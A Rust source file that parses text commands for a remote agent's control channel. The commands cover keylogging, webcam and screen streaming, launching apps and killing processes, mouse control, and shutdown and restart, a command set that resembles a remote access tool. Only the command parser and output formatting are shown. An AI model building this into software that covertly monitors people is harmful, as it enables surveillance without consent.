//! Control-channel command grammar
//!
//! Commands are newline-free whitespace-tokenized text carried as framed
//! packet payloads. Argument-bearing commands (`launch_app`,
//! `search_apps`) take the remainder of the message after the command
//! word, spaces included.

use crate::agent::apps::AppEntry;

#[derive(Debug, Clone, PartialEq)]
pub enum Command {
    Ping,
    GetState,
    StartMonitorStream,
    StopMonitorStream,
    StartWebcamStream,
    StopWebcamStream,
    StartKeylog,
    StopKeylog,
    ListApps,
    ListProcess,
    LaunchApp(String),
    KillProcess(u32),
    SearchApps(String),
    MouseMove(f32, f32),
    MouseDown(u8),
    MouseUp(u8),
    MouseClick(u8),
    Shutdown,
    Restart,
    Unknown(String),
}

impl Command {
    pub fn parse(msg: &str) -> Command {
        // Payloads may arrive nul-padded from legacy peers.
        let msg = msg.trim_end_matches('\0');
        let mut tokens = msg.split_whitespace();
        let word = match tokens.next() {
            Some(w) => w,
            None => return Command::Unknown(String::new()),
        };

        match word {
            "ping" => Command::Ping,
            "get_state" => Command::GetState,
            "start_monitor_stream" => Command::StartMonitorStream,
            "stop_monitor_stream" => Command::StopMonitorStream,
            "start_webcam_stream" => Command::StartWebcamStream,
            "stop_webcam_stream" => Command::StopWebcamStream,
            "start_keylog" => Command::StartKeylog,
            "stop_keylog" => Command::StopKeylog,
            "list_apps" | "get_apps" => Command::ListApps,
            "list_process" => Command::ListProcess,
            "launch_app" => Command::LaunchApp(rest_after(msg, word)),
            "search_apps" => Command::SearchApps(rest_after(msg, word)),
            "kill_process" => match tokens.next().and_then(|t| t.parse().ok()) {
                Some(pid) => Command::KillProcess(pid),
                None => Command::Unknown(msg.to_string()),
            },
            "mouse_move" => {
                let x = tokens.next().and_then(|t| t.parse().ok());
                let y = tokens.next().and_then(|t| t.parse().ok());
                match (x, y) {
                    (Some(x), Some(y)) => Command::MouseMove(x, y),
                    _ => Command::Unknown(msg.to_string()),
                }
            }
            "mouse_down" => parse_button(tokens.next())
                .map_or_else(|| Command::Unknown(msg.to_string()), Command::MouseDown),
            "mouse_up" => parse_button(tokens.next())
                .map_or_else(|| Command::Unknown(msg.to_string()), Command::MouseUp),
            "mouse_click" => parse_button(tokens.next())
                .map_or_else(|| Command::Unknown(msg.to_string()), Command::MouseClick),
            "shutdown" => Command::Shutdown,
            "restart" => Command::Restart,
            _ => Command::Unknown(msg.to_string()),
        }
    }
}

fn parse_button(token: Option<&str>) -> Option<u8> {
    token.and_then(|t| t.parse().ok())
}

/// Everything after the command word and one separator, preserving inner
/// spaces (launch commands carry arguments).
fn rest_after(msg: &str, word: &str) -> String {
    msg.get(word.len() + 1..).unwrap_or("").to_string()
}

/// `DATA:APPS:id|name|icon|exec|keywords;...`
pub fn format_apps(apps: &[AppEntry]) -> String {
    let mut out = String::from("DATA:APPS:");
    for (i, app) in apps.iter().enumerate() {
        if i > 0 {
            out.push(';');
        }
        out.push_str(&format!(
            "{}|{}|{}|{}|{}",
            app.id, app.name, app.icon, app.exec, app.keywords
        ));
    }
    out
}

/// `DATA:PROCS:pid|name|-|exec|Running;...`
pub fn format_procs(procs: &[AppEntry]) -> String {
    let mut out = String::from("DATA:PROCS:");
    for (i, proc) in procs.iter().enumerate() {
        if i > 0 {
            out.push(';');
        }
        out.push_str(&format!("{}|{}|-|{}|Running", proc.pid, proc.name, proc.exec));
    }
    out
}
